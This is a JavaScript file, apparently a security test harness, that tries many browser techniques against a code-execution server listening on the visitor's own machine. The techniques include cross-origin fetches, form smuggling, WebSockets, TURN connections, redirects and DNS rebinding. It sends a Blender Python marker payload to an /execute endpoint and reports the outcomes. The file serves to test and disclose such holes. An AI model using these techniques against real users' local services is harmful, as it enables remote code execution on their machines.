// SPDX-License-Identifier: GPL-3.0-or-later
// What a page can try against a server on its visitor's machine. It reports each attempt and what it could read of it.
// `settings` (port of that server, where to report, names that mean the machine) stands before this file.
"use strict";

const CODE = "import bpy\nbpy.app.driver_namespace['intruder'] = True";
const FRAMED = JSON.stringify({type: "execute", code: CODE}) + "\0";
const BARE = JSON.stringify({type: "execute_code", params: {code: CODE}});
const HTTP = JSON.stringify({code: CODE});
const BODIES = [FRAMED, "\0" + FRAMED, "\r\n\r\n" + FRAMED, BARE, HTTP];
const KINDS = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json", ""];
const PATHS = ["/health", "/status", "/metrics", "/execute", "/mcp", "/"];
const PATIENCE_MS = 5000;

const tried = [];
const pause = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));

/** Notes what came of an attempt: `text` is what the page could read, if anything. */
function note(what, url, outcome, text = "") {
    tried.push({what, url, outcome, text: String(text).slice(0, 2000)});
}

async function tryFetch(what, url, options) {
    try {
        const response = await fetch(url, {signal: AbortSignal.timeout(PATIENCE_MS), ...options});
        const text = response.type === "opaque" ? await response.text() : `${response.status} ${await response.text()}`;
        note(what, url, response.type, text);
    } catch (error) {
        note(what, url, "error", "");
    }
}

async function fetches(base, modes) {
    const attempts = [];
    for (const mode of modes) {
        for (const path of PATHS) {
            for (const method of ["GET", "HEAD", "OPTIONS", "DELETE"]) {
                attempts.push(["fetch " + mode + " " + method, base + path, {mode, method, credentials: "include"}]);
            }
        }
        for (const method of ["POST", "PUT", "PATCH"]) {
            for (const body of BODIES) {
                for (const kind of KINDS) {
                    const headers = kind ? {"Content-Type": kind} : {};
                    const payload = kind ? body : new Blob([body]);
                    attempts.push(["fetch " + mode + " " + method, base + "/execute", {mode, method, headers, body: payload}]);
                }
            }
        }
        const headers = {Authorization: "Bearer " + "x".repeat(43), "Content-Type": "application/json"};
        attempts.push(["fetch with headers", base + "/execute", {mode, method: "POST", headers, body: HTTP}]);
    }
    attempts.push(["address space", base + "/status", {targetAddressSpace: "loopback", mode: "cors"}]);
    attempts.push(["address space", base + "/status", {targetAddressSpace: "local", mode: "no-cors"}]);
    // A few at a time: a browser has six connections for each host.
    while (attempts.length > 0) {
        await Promise.all(attempts.splice(0, 6).map(attempt => tryFetch(...attempt)));
    }
}

function tryRequest(url, method, body) {
    return new Promise(resolve => {
        const request = new XMLHttpRequest();
        request.timeout = PATIENCE_MS;
        request.onloadend = () => {
            note("XMLHttpRequest " + method, url, request.status ? "basic" : "error", request.status ? request.status + " " + request.responseText : "");
            resolve();
        };
        request.open(method, url);
        request.send(body);
    });
}

/** An element that asks for `url`; what a page can read of it is tried by `read`. */
function tryElement(name, url, attributes, read = () => "") {
    return new Promise(resolve => {
        const element = document.createElement(name);
        let hasEnded = false;
        const end = outcome => {
            if (hasEnded) {
                return;
            }
            hasEnded = true;
            let text = "";
            try {
                text = read(element) || "";
            } catch (error) {
                outcome += ", unreadable";
            }
            note(name, url, outcome, text);
            resolve();
        };
        element.onload = () => end("load");
        element.onerror = () => end("error");
        // Some tell nothing, whatever comes.
        setTimeout(() => end("nothing"), PATIENCE_MS / 2);
        Object.assign(element, attributes(url));
        document.body.append(element);
    });
}

function tryForm(url, enctype, body) {
    return new Promise(resolve => {
        const frame = document.createElement("iframe");
        frame.name = "frame" + Math.random();
        document.body.append(frame);
        const form = document.createElement("form");
        Object.assign(form, {action: url, method: "POST", enctype, target: frame.name});
        const field = document.createElement("textarea");
        // As text/plain a field is sent as `name=value`: together they are the request.
        const at = body.indexOf("code") + 8;
        field.name = body.slice(0, at);
        field.value = body.slice(at);
        form.append(field);
        document.body.append(form);
        frame.onload = () => {
            let text = "";
            try {
                text = frame.contentDocument.body.textContent;
            } catch (error) {
                // Another origin's: what it should be.
            }
            if (frame.contentWindow && text === "" && !frame.done) {
                frame.done = true;
                setTimeout(resolve, 50);
            }
            note("form " + enctype, url, "load", text);
        };
        form.submit();
        setTimeout(resolve, PATIENCE_MS);
    });
}

function trySocket(url, protocols) {
    return new Promise(resolve => {
        let socket;
        try {
            socket = new WebSocket(url, protocols);
        } catch (error) {
            note("WebSocket", url, "refused by the browser");
            resolve();
            return;
        }
        socket.onopen = () => {
            socket.send(FRAMED);
            note("WebSocket", url, "open", "200 open");
        };
        socket.onmessage = message => note("WebSocket", url, "message", "200 " + message.data);
        socket.onclose = socket.onerror = () => {
            note("WebSocket", url, "error");
            resolve();
        };
        setTimeout(resolve, PATIENCE_MS);
    });
}

function tryEvents(url) {
    return new Promise(resolve => {
        const source = new EventSource(url, {withCredentials: true});
        source.onmessage = message => note("EventSource", url, "message", "200 " + message.data);
        source.onopen = () => note("EventSource", url, "open", "200 open");
        source.onerror = () => {
            source.close();
            note("EventSource", url, "error");
            resolve();
        };
        setTimeout(resolve, PATIENCE_MS);
    });
}

/** TURN over TCP: a way to have a browser open a connection that does not speak HTTP. */
async function tryTurn(host) {
    const url = `turn:${host}:${settings.port}?transport=tcp`;
    try {
        const iceServers = [{urls: url, username: FRAMED, credential: FRAMED}];
        const peer = new RTCPeerConnection({iceServers, iceTransportPolicy: "relay"});
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
        await pause(1500);
        peer.close();
        note("TURN", url, "sent");
    } catch (error) {
        note("TURN", url, "error");
    }
}

async function elements(base) {
    const source = url => ({src: url});
    await Promise.all([
        ...PATHS.map(path => tryElement("img", base + path, source, image => (image.naturalWidth ? "200 picture" : ""))),
        ...PATHS.map(path => tryElement("script", base + path, source)),
        ...PATHS.map(path => tryElement("iframe", base + path, source, frame => frame.contentDocument && frame.contentDocument.body.textContent)),
    ]);
    await Promise.all([
        tryElement("link", base + "/status", url => ({rel: "stylesheet", href: url}), link => (link.sheet && link.sheet.cssRules.length ? "200 rules" : "")),
        tryElement("link", base + "/status", url => ({rel: "prefetch", href: url})),
        tryElement("link", base + "/status", url => ({rel: "preload", as: "fetch", href: url})),
        tryElement("link", base + "/status", url => ({rel: "manifest", href: url})),
        tryElement("object", base + "/status", url => ({data: url}), object => object.contentDocument && object.contentDocument.body.textContent),
        tryElement("embed", base + "/status", source),
        tryElement("video", base + "/status", source),
        tryElement("iframe", base + "/status", url => ({srcdoc: `<meta http-equiv="refresh" content="0;url=${url}">`})),
    ]);
}

/** Everything against one way to name the server. */
async function attack(base, modes) {
    await fetches(base, modes);
    await elements(base);
    for (const method of ["GET", "POST", "PUT"]) {
        await tryRequest(base + "/execute", method, FRAMED);
        await tryRequest(base + "/status", method, FRAMED);
    }
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        for (const body of [FRAMED, BARE, HTTP]) {
            await tryForm(base + "/execute", enctype, body);
        }
    }
    for (const kind of ["text/plain", "application/json"]) {
        note("sendBeacon", base, String(navigator.sendBeacon(base + "/execute", new Blob([FRAMED], {type: kind}))));
    }
    await trySocket(base.replace("http", "ws") + "/execute", []);
    await trySocket(base.replace("http", "ws") + "/", ["execute"]);
    await tryEvents(base + "/execute");
    await tryEvents(base + "/status");
}

/** A redirect of the page's own site, which keeps method and body. */
async function redirects(base) {
    for (const code of [302, 307]) {
        const url = `${settings.report}/redirect?${code}&${base}/execute`;
        for (const mode of ["no-cors", "cors"]) {
            await tryFetch("redirect " + mode, url, {mode, method: "POST", body: FRAMED});
        }
        await tryForm(url, "text/plain", FRAMED);
    }
}

async function report(stage) {
    const body = JSON.stringify({stage, origin: location.origin, tried: tried.splice(0)});
    await fetch(settings.report + "/report", {mode: "no-cors", method: "POST", body});
}

async function main() {
    if (settings.sandboxed) {
        // An origin of its own, which is sent as `null`.
        await fetches(`http://127.0.0.1:${settings.port}`, ["cors", "no-cors"]);
        await report("sandboxed");
        return;
    }
    for (const base of settings.bases) {
        await attack(base, ["cors", "no-cors", "same-origin"]);
        await redirects(base);
    }
    for (const host of ["127.0.0.1", "localhost"]) {
        await tryTurn(host);
    }
    await report("cross-origin");
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.src = "/sandboxed";
    document.body.append(frame);
    await fetch(settings.report + "/rebind", {mode: "no-cors"});
    // From here on this page's own name and port lead to the server.
    await attack(location.origin, ["same-origin", "cors"]);
    await report("rebound");
}

main().catch(error => report("failed: " + error + " " + error.stack));
